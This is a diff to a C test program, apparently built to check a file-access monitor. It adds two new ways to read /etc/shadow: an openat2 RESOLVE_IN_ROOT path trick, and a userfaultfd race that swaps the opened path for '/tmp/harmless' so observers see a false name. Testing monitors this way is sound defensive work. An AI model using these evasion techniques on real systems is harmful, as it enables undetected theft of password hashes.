@@ -6,11 +6,14 @@
 #include <fcntl.h>
 #include <linux/io_uring.h>
 #include <linux/mount.h>
+#include <linux/openat2.h>
+#include <linux/userfaultfd.h>
 #include <pthread.h>
 #include <sched.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/stat.h>
@@ -36,6 +39,13 @@ static int by_folder(void)
 {
     int dir = open("/etc", O_PATH | O_DIRECTORY);
     return drink(openat(dir, "../etc/./shadow", O_RDONLY));
+}
+
+/* openat2 with a root of its own: the path is not the file's. */
+static int by_resolve(void)
+{
+    struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT | RESOLVE_NO_MAGICLINKS};
+    return drink((int)syscall(SYS_openat2, open("/etc", O_PATH | O_DIRECTORY), "/../shadow", &how, sizeof how));
 }
 
 static int by_proc_fd(void)
@@ -157,6 +167,33 @@ static int by_flipping_name(void)
     return done == 1 ? 0 : done ? 1 : REFUSED;
 }
 
+/* The name lies in a page that is not there: whoever reads it waits until another thread fills it in, and that thread writes what it likes. */
+static int faults;
+static char *late;
+static void *serve_fault(void *arg)
+{
+    static char page[4096] __attribute__((aligned(4096)));
+    struct uffd_msg m;
+    if (read(faults, &m, sizeof m) != sizeof m)
+        return arg;
+    strcpy(page, FILE_);
+    struct uffdio_copy copy = {.dst = (unsigned long)late, .src = (unsigned long)page, .len = 4096};
+    ioctl(faults, UFFDIO_COPY, &copy);
+    strcpy(late, "/tmp/harmless");
+    return arg;
+}
+static int by_late_name(void)
+{
+    pthread_t t;
+    struct uffdio_api api = {.api = UFFD_API};
+    faults = (int)syscall(SYS_userfaultfd, 0);
+    late = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    struct uffdio_register r = {.range = {.start = (unsigned long)late, .len = 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
+    if (faults < 0 || ioctl(faults, UFFDIO_API, &api) || ioctl(faults, UFFDIO_REGISTER, &r) || pthread_create(&t, NULL, serve_fault, NULL))
+        return REFUSED;
+    return drink(open(late, O_RDONLY));
+}
+
 /* Thousands of events of less weight, then the act. */
 static int after_a_flood(void)
 {
@@ -194,7 +231,7 @@ static int from_memory(char *self)
 static const struct {
     const char *name;
     int (*fn)(void);
-} ways[] = {{"name", by_name}, {"folder", by_folder}, {"proc-fd", by_proc_fd}, {"root-link", by_root_link}, {"hard-link", by_hard_link}, {"symlinks", by_symlinks},
+} ways[] = {{"name", by_name}, {"folder", by_folder}, {"resolve", by_resolve}, {"late-name", by_late_name}, {"proc-fd", by_proc_fd}, {"root-link", by_root_link}, {"hard-link", by_hard_link}, {"symlinks", by_symlinks},
         {"mapping", by_mapping}, {"bind-mount", by_bind_mount}, {"new-mount-api", by_new_mount_api}, {"chroot", by_chroot}, {"32-bit-call", by_32_bit_call}, {"io_uring", by_io_uring}, {"flipping-name", by_flipping_name}, {"flood", after_a_flood}, {"disguise", in_disguise}};
 
 int main(int argc, char **argv)
